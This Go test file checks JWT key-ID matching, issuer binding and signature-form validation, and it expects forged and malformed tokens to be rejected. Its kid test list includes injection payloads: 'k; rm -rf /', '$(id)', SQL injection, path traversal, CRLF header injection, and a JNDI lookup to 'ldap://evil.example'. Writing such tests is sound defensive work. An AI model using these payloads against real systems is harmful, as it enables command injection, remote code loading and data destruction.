package authn

import (
	"crypto/ecdsa"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"math/big"
	"strings"
	"testing"

	"github.com/modelgate/modelgate/internal/reason"
)

// TestKeyIDIsComparedExactly: kid is neither a path nor a query nor a URL (RFC 7515
// section 4.1.4, RFC 8725 section 3.10).
func TestKeyIDIsComparedExactly(t *testing.T) {
	w := newWorld(t, row("corp", []string{"ES256"},
		publicJWK(ecKey, "k", ""), publicJWK(evilEC, "../k", "")))
	other := newWorld(t, row("corp", []string{"ES256"}, publicJWK(ecKey, "k", ""), publicJWK(evilEC, "", "")))
	header := func(kid any) m { return with(m{"alg": "ES256"}, "kid", kid) }
	w.bearer(t,
		attempt{"k", corpToken(header("k"), claimsOf("corp")), reason.Allowed},
		attempt{"../k", sign("ES256", evilEC, header("../k"), claimsOf("corp")), reason.Allowed},
		attempt{"k by the key ../k", sign("ES256", evilEC, header("k"), claimsOf("corp")), reason.SignatureInvalid},
		attempt{"../k by the key k", corpToken(header("../k"), claimsOf("corp")), reason.SignatureInvalid})
	for _, kid := range []string{
		"", " ", "K", "k ", " k", "k\x00", "\x00", "k\n", "./k", "k/", "k/../k", "../../../../dev/null", "/dev/null",
		`..\k`, "%6b", "*", "?", "k*", ".*",
		"' OR '1'='1", "k' UNION SELECT 'secret", "k; rm -rf /", "$(id)", "${jndi:ldap://evil.example}",
		"https://evil.example/k", "k\r\nX-Evil: 1",
		"0", "null", "ｋ", "\u212a", strings.Repeat("k", 257), strings.Repeat("k", 10_000), strings.Repeat("../", 3000),
	} {
		name := fmt.Sprintf("kid %.40q", kid)
		w.bearer(t, attempt{name, corpToken(header(kid), claimsOf("corp")), reason.KeyUnknown})
		other.bearer(t, attempt{name + ", beside a key without kid", corpToken(header(kid), claimsOf("corp")), reason.KeyUnknown})
	}
	w.bearer(t, attempt{"kid of 64 KiB", corpToken(header(strings.Repeat("k", 64<<10)), claimsOf("corp")), reason.TokenTooLarge})
	for _, kid := range []any{nil, 0, 1.5, true, []string{"k"}, []any{}, m{"kid": "k"}} {
		w.bearer(t, attempt{fmt.Sprint("kid ", kid), corpToken(header(kid), claimsOf("corp")), reason.TokenMalformed})
	}
	// A key whose own kid is as long as any may be is found.
	long := strings.Repeat("k", 256)
	w = newWorld(t, row("corp", []string{"ES256"}, publicJWK(ecKey, long, "")))
	w.bearer(t, attempt{"kid of 256", corpToken(header(long), claimsOf("corp")), reason.Allowed})
}

// TestKeysBelongToTheirIssuer: whatever their kid (RFC 8725 section 3.8).
func TestKeysBelongToTheirIssuer(t *testing.T) {
	w := newWorld(t,
		row("one", []string{"ES256"}, publicJWK(ecKey, "shared", "ES256"), publicJWK(newEC(ecKey.Curve), "only-one", "ES256")),
		row("two", []string{"ES256"}, publicJWK(evilEC, "shared", "ES256")),
		row("three", []string{"RS256"}, publicJWK(rsaKey, "shared", "RS256")))
	by := func(alg string, key any, kid any, iss string) string {
		return sign(alg, key, with(m{"alg": alg}, "kid", kid), claimsOf(iss))
	}
	w.bearer(t,
		attempt{"one by its own", by("ES256", ecKey, "shared", "one"), reason.Allowed},
		attempt{"two by its own", by("ES256", evilEC, "shared", "two"), reason.Allowed},
		attempt{"three by its own", by("RS256", rsaKey, "shared", "three"), reason.Allowed},
		attempt{"two without kid", by("ES256", evilEC, missing{}, "two"), reason.Allowed},
		attempt{"one by two's key", by("ES256", evilEC, "shared", "one"), reason.SignatureInvalid},
		attempt{"two by one's key", by("ES256", ecKey, "shared", "two"), reason.SignatureInvalid},
		attempt{"two by one's kid", by("ES256", ecKey, "only-one", "two"), reason.KeyUnknown},
		attempt{"two by one's key without kid", by("ES256", ecKey, missing{}, "two"), reason.SignatureInvalid},
		attempt{"one by three's algorithm", by("RS256", rsaKey, "shared", "one"), reason.TokenAlgorithm},
		attempt{"three by one's algorithm", by("ES256", ecKey, "shared", "three"), reason.TokenAlgorithm},
		attempt{"an issuer nobody configured", by("ES256", ecKey, "shared", "four"), reason.IssuerUnknown})
}

// fixed is bytes big-endian in size bytes.
func fixed(n *big.Int, size int) []byte { return n.FillBytes(make([]byte, size)) }

// TestECDSASignatureForm: r and s from 1 to n-1, at their full length (RFC 7518 section
// 3.4; CVE-2022-21449).
func TestECDSASignatureForm(t *testing.T) {
	for _, x := range []struct {
		alg string
		key *ecdsa.PrivateKey
	}{{"ES256", ecKey}, {"ES384", p384Key}, {"ES512", p521Key}} {
		w := newWorld(t, row("corp", []string{x.alg}, publicJWK(x.key, "", "")))
		good := sign(x.alg, x.key, m{"alg": x.alg}, claimsOf("corp"))
		w.bearer(t, attempt{x.alg, good, reason.Allowed})
		text, last := good[:strings.LastIndexByte(good, '.')+1], good[strings.LastIndexByte(good, '.')+1:]
		sig, _ := base64.RawURLEncoding.DecodeString(last)
		params, one, size := x.key.Params(), big.NewInt(1), len(sig)/2
		n := params.N
		odd := map[string]*big.Int{
			"0":      new(big.Int),
			"1":      one,
			"n-1":    new(big.Int).Sub(n, one),
			"n":      n,
			"n+1":    new(big.Int).Add(n, one),
			"p":      params.P,
			"good r": new(big.Int).SetBytes(sig[:size]),
			"good s": new(big.Int).SetBytes(sig[size:]),
		}
		for r, rv := range odd {
			for s, sv := range odd {
				if r == "good r" && s == "good s" {
					continue
				}
				forged := text + b64(append(fixed(rv, size), fixed(sv, size)...))
				w.bearer(t, attempt{x.alg + " with r=" + r + " s=" + s, forged, reason.SignatureInvalid})
			}
		}
		der, _ := x.key.Sign(nil, make([]byte, 32), nil)
		for name, wrong := range map[string][]byte{
			"empty":                   {},
			"one byte":                {0},
			"r only":                  sig[:size],
			"short":                   sig[:2*size-1],
			"long":                    append(sig[:2*size:2*size], 0),
			"zero before":             append([]byte{0}, sig...),
			"twice":                   append(sig[:2*size:2*size], sig...),
			"DER":                     der,
			"r and s at 4 bytes more": append(append(make([]byte, 4), sig[:size]...), append(make([]byte, 4), sig[size:]...)...),
			"swapped":                 append(sig[size:2*size:2*size], sig[:size]...),
			"flipped":                 append([]byte{sig[0] ^ 1}, sig[1:]...),
		} {
			w.bearer(t, attempt{x.alg + " signature " + name, text + b64(wrong), reason.SignatureInvalid})
		}
	}
	// P-521 has room for r+n, which is r to a verifier that reduces first.
	w := newWorld(t, row("corp", []string{"ES512"}, publicJWK(p521Key, "", "")))
	good := sign("ES512", p521Key, m{"alg": "ES512"}, claimsOf("corp"))
	text := good[:strings.LastIndexByte(good, '.')+1]
	sig, _ := base64.RawURLEncoding.DecodeString(good[len(text):])
	more := new(big.Int).Add(new(big.Int).SetBytes(sig[:66]), p521Key.Params().N)
	w.bearer(t, attempt{"ES512 with r+n", text + b64(append(fixed(more, 66), sig[66:]...)), reason.SignatureInvalid})
}

// TestOtherSignatureForms: s of Ed25519 is below the group's order (RFC 8032 section
// 5.1.7), and an RSA signature is below the modulus and has its length (RFC 8017
// section 8.2.2).
func TestOtherSignatureForms(t *testing.T) {
	w := newWorld(t, row("corp", []string{"EdDSA", "RS256"}, publicJWK(edKey, "", ""), publicJWK(rsaKey, "", "")))
	for _, x := range []struct {
		alg string
		key any
		mod *big.Int
		le  bool
	}{
		{"EdDSA", edKey, groupOrder, true},
		{"RS256", rsaKey, rsaKey.N, false},
	} {
		good := sign(x.alg, x.key, m{"alg": x.alg}, claimsOf("corp"))
		w.bearer(t, attempt{x.alg, good, reason.Allowed})
		text := good[:strings.LastIndexByte(good, '.')+1]
		sig, _ := base64.RawURLEncoding.DecodeString(good[len(text):])
		more := append([]byte{0}, sig...)
		if x.le {
			more = append(sig[:32:32], reversed(fixed(new(big.Int).Add(new(big.Int).SetBytes(reversed(sig[32:])), x.mod), 32))...)
		} else if sum := new(big.Int).Add(new(big.Int).SetBytes(sig), x.mod); sum.BitLen() <= 8*len(sig) {
			more = fixed(sum, len(sig))
		}
		for name, wrong := range map[string][]byte{
			"plus the order": more,
			"empty":          {},
			"zeros":          make([]byte, len(sig)),
			"short":          sig[1:],
			"long":           append(sig[:len(sig):len(sig)], 0),
			"zero before":    append([]byte{0}, sig...),
			"flipped":        append([]byte{sig[0] ^ 1}, sig[1:]...),
			"the modulus":    fixed(x.mod, len(sig)),
		} {
			w.bearer(t, attempt{x.alg + " signature " + name, text + b64(wrong), reason.SignatureInvalid})
		}
	}
}

// groupOrder is l of RFC 8032 section 5.1.
var groupOrder, _ = new(big.Int).SetString("7237005577332262213973186563042994240857116359379907606001950938285454250989", 10)

func reversed(b []byte) []byte {
	out := make([]byte, len(b))
	for i := range b {
		out[len(b)-1-i] = b[i]
	}
	return out
}

// TestVerifyOutside: Env.Verify decides before Go does, but only for signatures of the
// right length.
func TestVerifyOutside(t *testing.T) {
	w, good := corp(t)
	forged := sign("ES256", evilEC, m{"alg": "ES256", "kid": "k"}, claimsOf("corp"))
	short := good[:len(good)-86] + b64(make([]byte, 63))
	for _, x := range []struct {
		name     string
		ok, done bool
		token    string
		want     reason.Reason
		calls    int
	}{
		{"yes", true, true, good, reason.Allowed, 1},
		{"no", false, true, good, reason.SignatureInvalid, 1},
		{"cannot, good", false, false, good, reason.Allowed, 1},
		{"cannot, forged", true, false, forged, reason.SignatureInvalid, 1},
		{"yes, but too short", true, true, short, reason.SignatureInvalid, 0},
	} {
		calls := 0
		w.env.Verify = func(k *Key, signed, signature string) (ok, done bool) {
			calls++
			digest := sha256.Sum256([]byte(signed))
			r, s := new(big.Int).SetBytes([]byte(signature[:32])), new(big.Int).SetBytes([]byte(signature[32:]))
			public := k.Public().(*ecdsa.PublicKey)
			if k.Algorithm() != "ES256" || k.ID != "k" || ecdsa.Verify(public, digest[:], r, s) != (x.token == good) {
				t.Errorf("Verify(%s) got %s %q %q", x.name, k.Algorithm(), k.ID, signed)
			}
			return x.ok, x.done
		}
		w.bearer(t, attempt{x.name, x.token, x.want})
		if calls != x.calls {
			t.Errorf("Verify(%s) was called %d times, want %d", x.name, calls, x.calls)
		}
	}
}
